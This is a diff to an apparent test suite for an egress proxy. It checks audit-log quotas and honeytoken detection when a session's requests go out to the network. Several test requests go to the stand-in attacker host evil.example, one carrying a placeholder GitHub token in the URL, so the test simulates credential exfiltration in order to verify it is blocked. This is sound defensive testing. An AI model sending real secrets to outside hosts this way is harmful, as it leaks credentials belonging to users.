@@ -335,13 +335,15 @@ async def test_a_session_past_its_audit_share_is_refused_but_its_honeytoken_stil
     """Past its share of the day's audit lines (``auditshare.py``) a session's requests are
     refused with a 429 and counted, not written; a placeholder it sends on is still the
     honeytoken it was (refused as one, the alert raised), so a flood does not blind it. Its
-    line is the evidence: written in full, past the share too (it was only counted)."""
+    line is the evidence: written in full, past the share too (it was only counted), up to
+    a second share: a flood of leaks fills no disk either."""
     sid, _ = auth = rig.session("spent")
     rig.state.config = replace(rig.state.config, audit_bytes_per_day=1024)
     leak = placeholder_env(KEY, sid)["GH_TOKEN"]
     assert (await rig.curl(auth, "http://evil.example/before"))[0] == 200
     written = len(rig.audit())
-    rig.state.shares.spend(sid, 4096, datetime.now(UTC).date().isoformat())
+    today = datetime.now(UTC).date().isoformat()
+    rig.state.shares.spend(sid, 1024, today)  # its share, just spent
     status, body = await rig.curl(auth, "http://evil.example/plain")
     assert status == 429 and b"audit_bytes_per_day" in body, body
     assert (await rig.curl(auth, f"http://evil.example/?k={leak}"))[0] == 403
@@ -356,6 +358,10 @@ async def test_a_session_past_its_audit_share_is_refused_but_its_honeytoken_stil
     assert [(r.decision, r.path, r.note) for r in after] == [  # type: ignore[attr-defined]
         ("honeytoken", "/?k=REDACTED", "honeytoken: the session's github placeholder in "
          "the url")], after
+    # Its lines past a second share: a leak is refused as one, its line only counted.
+    rig.state.shares.spend(sid, 1024, today)
+    assert (await rig.curl(auth, f"http://evil.example/again?k={leak}"))[0] == 403
+    assert len(rig.audit()) == written + 1
 
 
 async def test_a_line_of_an_exchange_begun_before_midnight_gives_no_session_its_share_back(
